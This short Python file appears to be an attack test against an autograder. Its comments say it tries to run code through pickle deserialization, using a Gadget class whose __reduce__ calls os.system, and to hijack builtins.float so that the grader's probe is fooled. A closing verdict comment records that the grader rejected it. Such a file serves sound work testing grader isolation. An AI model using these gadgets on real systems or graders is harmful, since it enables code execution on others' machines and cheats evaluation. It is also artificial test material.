# ATTACK: makes the grader receive objects whose unpickling runs code: a class whose
# __reduce__ would create grader-attack-unpickled in /tmp of whoever unpickles it. GD returns
# one, make_gadget() returns one, and GD replaces builtins.float so that the exercise's own
# probe records gadgets instead of numbers.
# VERDICT: graded, 0 points, each check failed ("your code replaced builtins.float", or "cannot
# be sent back to the grader"): only JSON data crosses the boundary, so nothing is ever
# unpickled and no file appears.
import builtins
import os


class Gadget:
    def __reduce__(self):
        return (os.system, ("touch /tmp/grader-attack-unpickled",))

    def __float__(self):
        return 2.0


def make_gadget():
    return {"x": Gadget(), "losses": [Gadget()]}


def GD(params, loss_fn, loop_max=10000, learning_rate=1e-3):
    builtins.float = lambda *a: Gadget()
    loss_fn(params)  # one step's loss, and no step
    return Gadget()
